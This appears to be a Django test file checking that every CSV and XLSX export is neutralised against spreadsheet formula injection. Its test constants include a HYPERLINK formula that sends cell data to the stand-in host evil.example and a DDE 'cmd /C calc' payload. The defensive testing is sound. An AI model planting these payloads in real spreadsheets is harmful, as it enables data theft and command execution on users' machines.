"""docs/security.md 27: every CSV and XLSX cell Twiza writes is neutralised against formulas.

A hostile title or name (typed, or imported from Kobo) is put into every file a user can take away;
each file is read back and no cell may be a formula or text starting like one.
"""

import csv
import io
import re
from pathlib import Path

import openpyxl
import pytest
from django.conf import settings
from django.urls import reverse

from activities.models import Activity
from core.spreadsheets import FORMULA_STARTS, cell, csv_writer, workbook
from participation.models import Forum
from partnerships.models import Structure
from people.models import Person, TargetGroup
from programme.models import Indicator, Result
from reports.models import Narrative

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1;"Cliquez")'
CMD = "=cmd|' /C calc'!A0"
PLUS, AT = "+SUM(1;2)", "@SUM(1;2)"
YEAR = 2025


def test_cell_quotes_text_that_starts_like_a_formula_and_keeps_numbers():
    for text in (HYPERLINK, CMD, PLUS, AT, "-2+3", "\t=1", "\r=1"):
        assert cell(text) == "'" + text
    assert cell("Atelier = succès") == "Atelier = succès"
    assert cell(-5) == -5 and cell(2.5) == 2.5 and cell(None) is None
    assert cell("") == ""


def test_no_writer_outside_the_helper():
    """Every CSV and XLSX writer goes through core/spreadsheets.py (bench/ writes test input only)."""
    root = Path(settings.BASE_DIR)
    direct = re.compile(r"csv\.(writer|DictWriter)\(|^\s*(import|from) xlsxwriter", re.MULTILINE)
    offenders = []
    for path in root.rglob("*.py"):
        parts = path.relative_to(root).parts
        if parts[0] in {".venv", "bench", "node_modules"} or "tests" in parts:
            continue
        if path == root / "core" / "spreadsheets.py":
            continue
        if direct.search(path.read_text(encoding="utf-8")):
            offenders.append(str(path.relative_to(root)))
    assert not offenders, f"CSV/XLSX written without core.spreadsheets: {offenders}"


def assert_csv_safe(text: str, *hostile: str):
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    for value in cells:
        assert not value.startswith(FORMULA_STARTS) or _is_number(value), value
    for bad in hostile:
        assert "'" + bad in cells, f"{bad!r} missing from the file"


def assert_xlsx_safe(data: bytes, *hostile: str):
    book = openpyxl.load_workbook(io.BytesIO(data))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for c in row:
                assert c.data_type != "f", f"{sheet.title}!{c.coordinate} is a formula: {c.value!r}"
                if c.data_type == "s":
                    assert isinstance(c.value, str), c.value
                    assert not c.value.startswith(FORMULA_STARTS), c.value
                    texts.append(c.value)
    for bad in hostile:
        assert "'" + bad in texts, f"{bad!r} missing from the file"


def _is_number(value: str) -> bool:
    try:
        float(value)
    except ValueError:
        return False
    return True


def test_helpers_neutralise_every_write_path():
    out = io.StringIO()
    csv_writer(out).writerow([HYPERLINK, -3, 4])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'" + HYPERLINK, "-3", "4"]
    data = io.BytesIO()
    book = workbook(data, strings_to_formulas=True)  # a caller cannot switch the conversion back on
    sheet = book.add_worksheet()
    sheet.write(0, 0, CMD)
    sheet.write("B1", HYPERLINK)
    sheet.write_string(1, 0, PLUS)
    sheet.write_row(2, 0, [AT, -7])
    sheet.write_column(3, 0, ["-1-1"])
    book.close()
    assert_xlsx_safe(data.getvalue(), CMD, HYPERLINK, PLUS, AT, "-1-1")
    assert openpyxl.load_workbook(data)["Sheet1"]["B3"].value == -7


def _streamed(response) -> str:
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return content.decode("utf-8-sig")


def test_registry_and_activity_exports_keep_hostile_text_as_text(demo_activity, client_for):
    partnership = demo_activity["partnership"]
    person = Person.objects.filter(partnership=partnership, structure__code="centre-jour").first()
    person.first_name, person.last_name, person.place = HYPERLINK, CMD, PLUS
    person.save()
    activity = Activity.objects.filter(partnership=partnership, structure__code="centre-jour").first()
    Activity.objects.filter(pk=activity.pk).update(title=CMD)
    client = client_for("jour")
    base = f"/p/{partnership.slug}/rapports/exports"
    assert_csv_safe(_streamed(client.get(f"{base}/personnes.csv")), HYPERLINK, CMD, PLUS)
    assert_csv_safe(_streamed(client.get(f"{base}/activites.csv")), CMD)


def test_background_export_keeps_hostile_text_as_text(demo_activity, client_for):
    from reports.models import Job

    partnership = demo_activity["partnership"]
    Activity.objects.filter(partnership=partnership).update(title=HYPERLINK)
    client = client_for("coordination")
    # Tasks run immediately in the tests.
    client.post(f"/p/{partnership.slug}/rapports/exports/activites/en-arriere-plan/")
    job = Job.objects.filter(partnership=partnership, kind=Job.Kind.EXPORT).latest("pk")
    assert job.status == Job.Status.DONE, job.message
    file = client.get(f"/p/{partnership.slug}/rapports/taches/{job.pk}/fichier")
    assert_csv_safe(file.content.decode("utf-8-sig"), HYPERLINK)


def _hostile_report(partnership, coordinator):
    Result.objects.filter(partnership=partnership, code="R1").update(name=AT)
    Indicator.objects.filter(result__partnership=partnership, code="OC.2").update(name=HYPERLINK)
    result = Result.objects.get(partnership=partnership, code="R1")
    Narrative.objects.create(
        partnership=partnership, result=result, year=YEAR, text=CMD, updated_by=coordinator
    )


def test_annual_report_xlsx_and_csv_keep_hostile_text_as_text(demo_activity, client_for, coordination):
    partnership = demo_activity["partnership"]
    _hostile_report(partnership, coordination)
    client = client_for("coordination")
    xlsx = client.get(f"/p/{partnership.slug}/rapports/{YEAR}/rapport.xlsx")
    assert xlsx.status_code == 200
    assert_xlsx_safe(xlsx.content, HYPERLINK, CMD, AT)
    assert_csv_safe(_streamed(client.get(f"/p/{partnership.slug}/rapports/{YEAR}/rapport.csv")), HYPERLINK)


def test_kobo_form_and_sample_keep_hostile_names_as_text(demo_activity, client_for):
    partnership = demo_activity["partnership"]
    Structure.objects.filter(partnership=partnership, code="centre-jour").update(name=CMD)
    TargetGroup.objects.filter(code="migrants").update(name=CMD)
    client = client_for("coordination")
    kwargs = {"slug": partnership.slug, "structure": "centre-jour", "kind": "activite"}
    form = client.get(reverse("collect:xlsform", kwargs=kwargs))
    assert form.status_code == 200
    assert_xlsx_safe(form.content, CMD)
    sample = client.get(reverse("reports:import_sample", kwargs={"slug": partnership.slug}))
    assert sample.status_code == 200
    assert_xlsx_safe(sample.content)


@pytest.mark.parametrize("view", ["indicators_csv", "activities_csv"])
def test_public_portal_csvs_keep_hostile_text_as_text(demo_activity, client, view):
    partnership = demo_activity["partnership"]
    Indicator.objects.filter(result__partnership=partnership).update(name=HYPERLINK)
    text = _streamed(client.get(reverse(f"portal:{view}", kwargs={"slug": partnership.slug})))
    assert_csv_safe(text, *([HYPERLINK] if view == "indicators_csv" else []))


def test_forum_results_csv_keeps_hostile_titles_as_text(partnership, client):
    forum = Forum.objects.get(partnership=partnership, slug="forum-2024")
    forum.proposals.update(title=PLUS)
    url = reverse("forums:results_csv", kwargs={"slug": partnership.slug, "pk": forum.pk})
    assert_csv_safe(_streamed(client.get(url)), PLUS)
